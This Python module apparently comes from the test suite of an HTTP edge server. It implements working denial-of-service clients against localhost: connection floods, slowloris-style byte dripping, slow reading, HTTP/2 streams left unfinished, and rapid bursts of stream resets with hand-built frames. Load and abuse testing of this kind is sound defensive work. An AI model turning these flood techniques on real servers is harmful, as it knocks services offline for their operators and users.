"""Connections that misuse the edge: so many at once, opened anew when they are closed, until a time is over."""

import asyncio
import socket
import ssl
import struct
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field

from hpack import Encoder

SOURCE = "127.0.0.2"
"""The one address that attacks come from; honest clients have 127.0.0.1."""

AGAIN = 3.0
"""Seconds until a connection or a stream that was ended is opened again: most attacks take what they hold."""

BURST = 0.2
"""Seconds between two bursts of streams that are reset."""

Headers = list[tuple[str, str]]


@dataclass
class Flood:
    """Keeps `number` connections open at an edge."""

    port: int
    number: int
    make: Callable[["Flood"], asyncio.Protocol]
    tls: ssl.SSLContext | None = None
    receive_buffer: int = 0
    """Bytes of the kernel's receive buffer; 0: its default."""
    pace: int = 200
    """Connections that are opened at a time."""
    rate: float = 0
    """Connections that are opened in a second; 0: as many as there can."""
    counts: Counter[str] = field(default_factory=Counter)
    open: int = 0
    most: int = 0

    async def run(self, seconds: float) -> dict[str, int]:
        """Returns what was counted."""
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
                slots = asyncio.Semaphore(self.pace)
                for _ in range(self.number):
                    group.create_task(self._keep(slots))
                    if self.rate:
                        await asyncio.sleep(1 / self.rate)
        return {"connections": self.most, **self.counts}

    async def _keep(self, slots: asyncio.Semaphore) -> None:
        while True:
            try:
                async with slots, asyncio.timeout(10):
                    protocol = await self._connect()
            except (OSError, TimeoutError):
                self.counts["connections refused"] += 1
                await asyncio.sleep(AGAIN)
                continue
            self.open += 1
            self.most = max(self.most, self.open)
            await protocol.lost.wait()
            self.open -= 1
            self.counts["connections closed"] += 1
            await asyncio.sleep(AGAIN)

    async def _connect(self) -> "Client":
        loop = asyncio.get_running_loop()
        connection = socket.socket()
        try:
            connection.setblocking(False)
            if self.receive_buffer:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
            connection.bind((SOURCE, 0))
            await loop.sock_connect(connection, ("127.0.0.1", self.port))
            name = "localhost" if self.tls else None
            _, made = await loop.create_connection(
                lambda: self.make(self), sock=connection, ssl=self.tls, server_hostname=name
            )
        except BaseException:
            connection.close()
            raise
        assert isinstance(made, Client)
        return made


class Client(asyncio.Protocol):
    """One connection."""

    def __init__(self) -> None:
        self.lost = asyncio.Event()
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport

    def connection_lost(self, exc: Exception | None) -> None:
        self.lost.set()


class Http1(Client):
    """Sends something, then maybe some more of it each second; reads the answers, or does not."""

    def __init__(self, first: bytes, *, more: bytes = b"", reads: bool = True) -> None:
        super().__init__()
        self._first, self._more, self._reads = first, more, reads
        self._task: asyncio.Task[None] | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        super().connection_made(transport)
        assert self.transport
        if not self._reads:
            self.transport.pause_reading()
        self.transport.write(self._first)
        if self._more:
            self._task = asyncio.create_task(self._drip(self.transport))

    async def _drip(self, transport: asyncio.Transport) -> None:
        while not transport.is_closing():
            await asyncio.sleep(1)
            transport.write(self._more)

    def connection_lost(self, exc: Exception | None) -> None:
        super().connection_lost(exc)
        if self._task:
            self._task.cancel()


@dataclass
class Request:
    """What each stream of an HTTP/2 connection asks."""

    headers: Headers
    body: bytes = b""
    ends: bool = True
    """The request is sent whole; otherwise its end never comes."""
    resets: bool = False
    """The stream is given up as soon as it is asked for."""
    rate: int = 0
    """Streams that a connection opens in a second; 0: as many as it may, at once."""
    again: float = AGAIN
    """Seconds until a stream that was answered is opened again."""


HEADER = struct.Struct(">HBBBL")
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 3, 4
FRAME = 16_384
"""Bytes in a frame at most."""


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    length = len(payload)
    return HEADER.pack(length >> 8, length & 255, kind, flags, stream) + payload


class Http2(Client):
    """Keeps `number` streams open, or as many as it may.

    It writes frames by itself: thousands of streams of which a library would keep books leave no CPU to those who are
    attacked.
    """

    def __init__(self, flood: Flood, request: Request, number: int, *, window: int = 65_535) -> None:
        """`window` is how many bytes of each answer it takes."""
        super().__init__()
        self._flood, self._request, self._number, self._window = flood, request, number, window
        encoder = Encoder()
        # The first block fills the edge's table of names; the later ones point into it, and are alike.
        self._blocks = [encoder.encode(request.headers), encoder.encode(request.headers)]
        self._received = b""
        self._next = 1
        self._open: dict[int, int] = {}
        """How much of the body each stream has sent."""
        self._waiting: dict[int, None] = {}
        """Streams with more to send."""
        self._windows: dict[int, int] = {}
        self._may, self._room, self._stream_room = 0, 65_535, 65_535

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        super().connection_made(transport)
        settings = struct.pack(">HLHL", 2, 0, INITIAL_WINDOW_SIZE, self._window)
        self._write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0, settings))

    def data_received(self, data: bytes) -> None:
        received = self._received + data
        at = 0
        while len(received) - at >= 9:
            high, low, kind, flags, stream = HEADER.unpack_from(received, at)
            end = at + 9 + (high << 8) + low
            if len(received) < end:
                break
            self._take(kind, flags, stream, received[at + 9 : end])
            at = end
        self._received = received[at:]

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for key, value in struct.iter_unpack(">HL", payload):
                if key == MAX_CONCURRENT_STREAMS:
                    self._may = value
                elif key == INITIAL_WINDOW_SIZE:
                    self._stream_room = value
            self._write(_frame(SETTINGS, ACK, 0, b""))
            self._fill()
        elif kind == PING and not flags & ACK:
            self._write(_frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            (more,) = struct.unpack(">L", payload)
            if stream:
                self._windows[stream] = self._windows.get(stream, 0) + more
            else:
                self._room += more
            self._send()
        elif kind == GOAWAY:
            self._flood.counts["connections told to go"] += 1
        elif kind == RST_STREAM:
            self._flood.counts["streams reset"] += 1
            self._over(stream)
        elif kind in (DATA, HEADERS):
            if kind == DATA and payload:
                update = struct.pack(">L", len(payload))
                self._write(_frame(WINDOW_UPDATE, 0, 0, update) + _frame(WINDOW_UPDATE, 0, stream, update))
            if flags & END_STREAM:
                self._flood.counts["streams answered"] += 1
                if not self._request.ends:
                    self._write(_frame(RST_STREAM, 0, stream, struct.pack(">L", 8)))
                self._over(stream)

    def _over(self, stream: int) -> None:
        if self._open.pop(stream, None) is not None:
            self._waiting.pop(stream, None)
            self._windows.pop(stream, None)
            asyncio.get_running_loop().call_later(self._request.again, self._fill)

    def _fill(self) -> None:
        number = min(self._number, self._may)
        if self._request.resets:
            for _ in range(number):
                self._ask()
            if number and not self.lost.is_set():
                asyncio.get_running_loop().call_later(BURST, self._fill)
            return
        asked = 0
        while len(self._open) < number and not self.lost.is_set():
            if self._request.rate and asked == self._request.rate // 10:
                asyncio.get_running_loop().call_later(0.1, self._fill)
                break
            asked += 1
            stream = self._ask()
            self._open[stream] = 0
            if self._request.body:
                self._waiting[stream] = None
        self._send()

    def _ask(self) -> int:
        stream, self._next = self._next, self._next + 2
        request = self._request
        block = self._blocks[stream > 1]
        ends = END_STREAM if request.ends and not request.body else 0
        parts = [block[at : at + FRAME] for at in range(0, len(block), FRAME)]
        for number, part in enumerate(parts):
            last = END_HEADERS if number == len(parts) - 1 else 0
            self._write(
                _frame(CONTINUATION, last, stream, part) if number else _frame(HEADERS, last | ends, stream, part)
            )
        if request.resets:
            self._write(_frame(RST_STREAM, 0, stream, struct.pack(">L", 8)))
        self._flood.counts["streams"] += 1
        return stream

    def _send(self) -> None:
        body, ends = self._request.body, self._request.ends
        for stream in list(self._waiting):
            if self._room <= 0:
                return
            at = self._open[stream]
            room = min(self._room, self._stream_room + self._windows.get(stream, 0) - at, len(body) - at)
            for start in range(at, at + room, FRAME):
                part = body[start : min(start + FRAME, at + room)]
                last = ends and start + len(part) == len(body)
                self._write(_frame(DATA, END_STREAM if last else 0, stream, part))
            if room > 0:
                self._room -= room
                self._open[stream] = at + room
            if self._open[stream] == len(body):
                del self._waiting[stream]

    def _write(self, data: bytes) -> None:
        if self.transport and not self.transport.is_closing():
            self.transport.write(data)
